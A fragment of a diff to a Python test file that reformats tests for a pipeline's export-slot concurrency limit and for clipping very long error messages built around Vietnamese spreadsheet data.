     # Each holder keeps its place until its stdin is closed: released one second after the
     # test starts waiting, however loaded the machine.
-    probe = ("import sys\nfrom pipeline import export\n"
-             "with export.slot():\n    print('in', flush=True)\n    sys.stdin.read()\n")
+    probe = (
+        "import sys\nfrom pipeline import export\n"
+        "with export.slot():\n    print('in', flush=True)\n    sys.stdin.read()\n"
+    )
     env = dict(os.environ, PYTHONPATH=str(ROOT))
-    holders = [subprocess.Popen([sys.executable, "-c", probe], stdin=subprocess.PIPE,
-                                stdout=subprocess.PIPE, text=True, env=env)
-               for _ in range(export.MAX_PROCESSES)]
+    holders = [
+        subprocess.Popen(
+            [sys.executable, "-c", probe], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, env=env
+        )
+        for _ in range(export.MAX_PROCESSES)
+    ]
     try:
         for holder in holders:
             assert holder.stdout.readline().strip() == "in"
@@ -1014,8 +1167,7 @@ def test_long_problem_quoting_data_whole_is_clipped_everywhere(tmp_path):
     from pipeline import status
     from pipeline.errors import Problem
 
-    problem = Problem("du-lieu.xlsx", 'mã "' + "x" * 100_000 + '" không có', "Đơn vị", 2,
-                      "y" * 1000)
+    problem = Problem("du-lieu.xlsx", 'mã "' + "x" * 100_000 + '" không có', "Đơn vị", 2, "y" * 1000)
     assert len(problem.message) < 2100 and len(problem.column) < 100
     recorded = status.record_failure(tmp_path, "dot", ValidationError([problem]))
     assert (tmp_path / "dot" / status.ERRORS).stat().st_size < 5000
